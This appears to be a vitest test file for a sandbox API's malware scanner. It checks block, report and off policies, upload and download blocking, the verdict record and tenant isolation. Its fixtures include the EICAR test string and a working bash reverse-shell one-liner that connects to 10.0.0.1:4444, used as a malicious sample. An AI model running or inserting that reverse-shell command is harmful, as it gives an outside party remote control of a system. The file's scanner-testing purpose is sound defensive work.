/**
 * The scanner at the API's edges: verdicts on demand, uploads and downloads
 * under each tenant policy (off / report / block), a sandbox's changes, and
 * the record of every verdict. The host is the oracle for "nothing was written".
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Sandbox, WardenClient, hasCode } from '@warden/sdk';
import { testServer, type TestServer } from '../helpers/server.js';

// Built at run time so this file itself is not a sample.
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const REVERSE_SHELL = `#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n`;
const BENIGN = 'print("hello")\n';

let t: TestServer;

beforeAll(async () => {
  t = await testServer();
});

afterAll(async () => {
  await t?.[Symbol.asyncDispose]();
});

async function put(key: string, sbx: string, path: string, body: string): Promise<{ status: number; code?: string; level: string | null }> {
  const res = await t.put(key, sbx, path, body);
  const j = (await res.json()) as { code?: string };
  return { status: res.status, ...(j.code ? { code: j.code } : {}), level: res.headers.get('x-warden-scan-level') };
}

describe('scanning over the API', () => {
  it('gives a verdict on demand, naming the finding', async () => {
    const c = new WardenClient(t.conn(t.key('direct')));
    const bad = await c.scan(EICAR, 'eicar.com');
    expect(bad.level).toBe('critical');
    expect(bad.findings.map((f) => f.ruleId)).toContain('patterns/eicar');
    expect(bad.explanation).toMatch(/eicar/i);
    const good = await c.scan(BENIGN, 'hello.py');
    expect(good.level).toBe('clean');
    expect(good.detectors.map((d) => d.name)).toEqual(expect.arrayContaining(['magic', 'patterns', 'secrets']));
  });

  it('block: a malicious upload is refused and never reaches the sandbox; a clean one goes through', async () => {
    const key = t.key('blocker');
    await new WardenClient(t.conn(t.adminKey)).setScanPolicy('blocker', { mode: 'block', blockAt: 'malicious' });
    const sbx = await Sandbox.create(t.conn(key));
    const refused = await put(key, sbx.id, 'rs.sh', REVERSE_SHELL);
    expect(refused).toMatchObject({ status: 422, code: 'E_SCAN_BLOCKED' });
    expect(await sbx.files.exists('rs.sh')).toBe(false); // the sandbox never saw it
    const ok = await put(key, sbx.id, 'hello.py', BENIGN);
    expect(ok).toMatchObject({ status: 200, level: 'clean' });
    expect(await sbx.files.read('hello.py')).toBe(BENIGN);
    const recorded = await new WardenClient(t.conn(key)).scans({ sandboxId: sbx.id });
    expect(recorded.find((r) => r.path === 'rs.sh')).toMatchObject({ direction: 'upload', blocked: true });
    expect(recorded.find((r) => r.path === 'hello.py' && r.direction === 'upload')).toMatchObject({ blocked: false, level: 'clean' });
    expect(recorded.find((r) => r.path === 'hello.py' && r.direction === 'download')).toMatchObject({ blocked: false, level: 'clean' });
    await sbx.kill();
  });

  it('block: a malicious file made inside cannot be downloaded', async () => {
    const key = t.key('blocker');
    const sbx = await Sandbox.create(t.conn(key));
    await sbx.commands.run(`printf '%s' '${EICAR}' > /workspace/out.txt`);
    await expect(sbx.files.read('out.txt')).rejects.toSatisfy((e) => hasCode(e, 'E_SCAN_BLOCKED'));
    // Twin: the file is there, and a clean one downloads.
    expect((await sbx.commands.run('wc -c < /workspace/out.txt')).stdout.trim()).toBe(String(EICAR.length));
    await sbx.files.write('fine.txt', 'fine');
    expect(await sbx.files.read('fine.txt')).toBe('fine');
    await sbx.kill();
  });

  it('report (the default): the upload goes through, the verdict is recorded and returned in a header', async () => {
    const key = t.key('reporter');
    expect(await new WardenClient(t.conn(key)).scanPolicy()).toEqual({ mode: 'report', blockAt: 'malicious' });
    const sbx = await Sandbox.create(t.conn(key));
    const r = await put(key, sbx.id, 'rs.sh', REVERSE_SHELL);
    expect(r.status).toBe(200);
    expect(['malicious', 'critical']).toContain(r.level);
    expect(await sbx.files.read('rs.sh')).toBe(REVERSE_SHELL);
    const recorded = await new WardenClient(t.conn(key)).scans({ sandboxId: sbx.id });
    expect(recorded[0]).toMatchObject({ path: 'rs.sh', blocked: false });
    await sbx.kill();
  });

  it('off: nothing is scanned or recorded', async () => {
    const key = t.key('trusting');
    await new WardenClient(t.conn(t.adminKey)).setScanPolicy('trusting', { mode: 'off', blockAt: 'malicious' });
    const sbx = await Sandbox.create(t.conn(key));
    const r = await put(key, sbx.id, 'rs.sh', REVERSE_SHELL);
    expect(r).toMatchObject({ status: 200, level: null });
    expect(await new WardenClient(t.conn(key)).scans()).toEqual([]);
    await sbx.kill();
  });

  it("a tenant sees only its own verdicts and cannot set a policy", async () => {
    const other = new WardenClient(t.conn(t.key('bystander')));
    expect(await other.scans()).toEqual([]);
    await expect(other.setScanPolicy('bystander', { mode: 'off', blockAt: 'critical' })).rejects.toSatisfy((e) => hasCode(e, 'E_FORBIDDEN'));
  });
});
